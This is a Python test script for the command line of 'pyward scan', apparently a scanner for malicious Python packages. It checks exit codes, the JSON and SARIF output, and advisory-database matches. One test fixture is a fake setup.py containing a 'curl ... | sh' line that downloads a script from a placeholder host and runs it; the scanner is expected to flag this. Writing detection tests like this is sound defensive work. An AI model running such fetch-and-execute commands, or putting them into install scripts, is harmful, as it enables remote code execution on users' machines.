#!/usr/bin/env python3
"""Command-line contract of `pyward scan`: exit statuses, the JSON keys of
DESIGN.md, SARIF 2.1.0 validity (against ../shared/schemas, with Debian's
python3-jsonschema), the text format, input order with --jobs, and errors
that name the input. Archives are built here in a temporary folder from
harmless text; nothing is installed or run but pyward.

usage: cli_contract_test.py PYWARD_BINARY SOURCE_DIR
"""
import io
import json
import os
import subprocess
import sys
import tarfile
import tempfile
import zipfile

PYWARD, SRC = sys.argv[1], sys.argv[2]
SCHEMA = os.path.join(SRC, "..", "shared", "schemas", "sarif-schema-2.1.0.json")
failures = []
checks = 0


def check(cond, what):
    global checks
    checks += 1
    if not cond:
        failures.append(what)
        print("FAIL:", what)


def run(*args):
    p = subprocess.run([PYWARD, *args], capture_output=True, text=True, stdin=subprocess.DEVNULL)
    return p.returncode, p.stdout, p.stderr


def make_sdist(path, name, setup_py):
    with tarfile.open(path, "w:gz") as t:
        for member, text in ((f"{name}-1.0/PKG-INFO", f"Name: {name}\nVersion: 1.0\n"),
                             (f"{name}-1.0/setup.py", setup_py)):
            data = text.encode()
            info = tarfile.TarInfo(member)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))


def make_wheel(path, name):
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(f"{name}/__init__.py", "x = 1\n")
        z.writestr(f"{name}-1.0.dist-info/METADATA", f"Name: {name}\nVersion: 1.0\n")


tmp = tempfile.mkdtemp(prefix="pyward_cli_")
clean = os.path.join(tmp, "clean-1.0.tar.gz")
bad = os.path.join(tmp, "bad-1.0.tar.gz")
sus = os.path.join(tmp, "sus-1.0.tar.gz")
wheel_as_tgz = os.path.join(tmp, "whl-1.0.tar.gz")
truncated = os.path.join(tmp, "trunc-1.0.tar.gz")
make_sdist(clean, "clean", "from setuptools import setup\nsetup(name='clean')\n")
make_sdist(bad, "bad", "import os\nos.system('curl http://x.invalid/p | sh')\n")
make_sdist(sus, "sus", "import os\nos.system('make')\n")
make_wheel(wheel_as_tgz, "whl")
with open(bad, "rb") as f:
    data = f.read()
with open(truncated, "wb") as f:
    f.write(data[: len(data) // 2])

# Exit statuses.
rc, out, err = run("scan", "-q", clean)
check(rc == 0, f"clean target exits 0, got {rc}: {err}")
rc, out, err = run("scan", "-q", bad)
check(rc == 1, f"malicious target exits 1, got {rc}")
rc, _, _ = run("scan", "-q", sus)
check(rc == 0, "suspicious passes the default --fail-on malicious")
rc, _, _ = run("scan", "-q", "--fail-on", "suspicious", sus)
check(rc == 1, "suspicious fails --fail-on suspicious")
rc, _, err = run("scan", "--no-such-flag", clean)
check(rc == 2, f"bad usage exits 2, got {rc}")
rc, _, _ = run("frobnicate")
check(rc == 2, "unknown command exits 2")
rc, out, _ = run("--help")
check(rc == 0 and "scan" in out and "example" in out, "pyward --help lists commands with an example")
rc, out, _ = run("scan", "--help")
check(rc == 0 and "--zip-password" in out and "Examples" in out, "scan --help explains flags with examples")

# JSON contract, input order, errors that do not stop the others.
targets = [bad, truncated, os.path.join(tmp, "missing.whl"), clean, wheel_as_tgz]
rc, out, err = run("scan", "--format", "json", "--jobs", "2", *targets)
check(rc == 2, f"an unreadable target makes the exit status 2, got {rc}")
check("\r" not in err and "[1/" not in err,
      f"no progress output when stderr is not a terminal: {err!r}")
doc = json.loads(out)
check(list(doc) == ["tool", "results"], "top-level keys")
check(doc["tool"]["name"] == "pyward" and doc["tool"]["version"], "tool name and version")
check([r["target"] for r in doc["results"]] == targets, "one result per target, in input order")
for r in doc["results"]:
    check(list(r) == ["target", "sha256", "package", "verdict", "score", "error", "findings"],
          f"result keys of {r['target']}: {list(r)}")
    check(r["verdict"] in ("malicious", "suspicious", "clean", "error"), "verdict value")
    check(0 <= r["score"] <= 100, "score range")
    for f in r["findings"]:
        check(list(f) == ["rule", "severity", "phase", "file", "line", "message", "evidence"],
              "finding keys")
        check(f["severity"] in ("critical", "high", "medium", "low", "info"), "severity value")
        check(f["phase"] in ("install", "import", "runtime", "none"), "phase value")
by = {r["target"]: r for r in doc["results"]}
check(by[bad]["verdict"] == "malicious", "malicious sdist")
check(by[bad]["package"] == {"name": "bad", "version": "1.0"}, "package from PKG-INFO")
check(any(f["rule"] == "install-exec" and f["line"] == 2 and f["file"] == "bad-1.0/setup.py"
          for f in by[bad]["findings"]), "install-exec finding with file and line")
check(by[truncated]["verdict"] == "error" and "truncated" in by[truncated]["error"],
      f"truncated archive is an error naming the problem: {by[truncated]['error']}")
check(len(by[truncated]["sha256"] or "") == 64, "sha256 even for unreadable archives")
check(by[os.path.join(tmp, "missing.whl")]["verdict"] == "error", "missing file is an error")
check("no such file" in by[os.path.join(tmp, "missing.whl")]["error"], "missing file message")
check(by[clean]["verdict"] == "clean" and by[clean]["error"] is None, "clean sdist")
check(by[wheel_as_tgz]["verdict"] == "clean" and by[wheel_as_tgz]["package"]["name"] == "whl",
      "a wheel named .tar.gz is read as a zip")

# SARIF validates against the official schema.
rc, out, _ = run("scan", "--format", "sarif", *targets, os.path.join(SRC, "examples"))
sarif = json.loads(out)
try:
    import jsonschema
    with open(SCHEMA) as f:
        schema = json.load(f)
    errors = list(jsonschema.Draft4Validator(schema).iter_errors(sarif))
    check(not errors, f"SARIF validates: {[e.message for e in errors[:3]]}")
except ImportError:
    check(False, "python3-jsonschema is installed")
check(sarif["runs"][0]["results"], "SARIF has results")

# Text: target, verdict, file:line  severity  rule  message, then the line.
rc, out, _ = run("scan", bad, clean)
check("MALICIOUS" in out and "CLEAN" in out, "text verdicts")
check("bad-1.0/setup.py:2  critical  install-exec  " in out, f"text finding line:\n{out}")
check("os.system('curl http://x.invalid/p | sh')" in out, "text shows the offending line")

# --output writes the report to a file.
report = os.path.join(tmp, "r.json")
rc, out, _ = run("scan", "-q", "--format", "json", "-o", report, clean)
check(rc == 0 and out == "" and json.load(open(report))["results"][0]["verdict"] == "clean",
      "--output")

# Known-malicious names come from the advisory database (OSV MAL- entries).
osv = os.path.join(tmp, "osv")
os.mkdir(osv)
with open(os.path.join(osv, "MAL-9999-1.json"), "w") as f:
    json.dump({"id": "MAL-9999-1", "modified": "2024-01-01T00:00:00Z",
               "summary": "Malicious code in known-bad (PyPI)",
               "affected": [{"package": {"ecosystem": "PyPI", "name": "Known_Bad"},
                             "ranges": [{"type": "ECOSYSTEM",
                                         "events": [{"introduced": "0"}]}]}]}, f)
db = os.path.join(tmp, "adv.sqlite")
rc, _, err = run("db", "import", "--db", db, osv)
check(rc == 0, f"db import: {err}")
known_bad = os.path.join(tmp, "known-bad-1.0.tar.gz")
make_sdist(known_bad, "known-bad", "from setuptools import setup\nsetup(name='known-bad')\n")
rc, out, err = run("scan", "-q", "--format", "json", "--db", db, known_bad, clean)
res = json.loads(out)["results"]
check(rc == 1 and res[0]["verdict"] == "malicious" and
      any(f["rule"] == "known-malicious-name" and "MAL-9999-1" in f["message"]
          for f in res[0]["findings"]), f"known-malicious name: {res[0]}")
check(res[1]["verdict"] == "clean", "other names are unaffected")
rc, _, err = run("scan", "-q", "--db", os.path.join(tmp, "none.sqlite"), clean)
check(rc == 2 and "no advisory database" in err, f"a missing --db is a usage error: {err}")

# The bundled examples: the README's main job.
rc, out, _ = run("scan", os.path.join(SRC, "examples", "demo-clean"),
                 os.path.join(SRC, "examples", "demo-stealer"))
check(rc == 1 and "demo-stealer  MALICIOUS" in out, "bundled demo stealer is malicious")
check("demo-clean  CLEAN" in out, "bundled clean demo is clean")

print(f"{checks - len(failures)} passed, {len(failures)} failed")
sys.exit(1 if failures else 0)
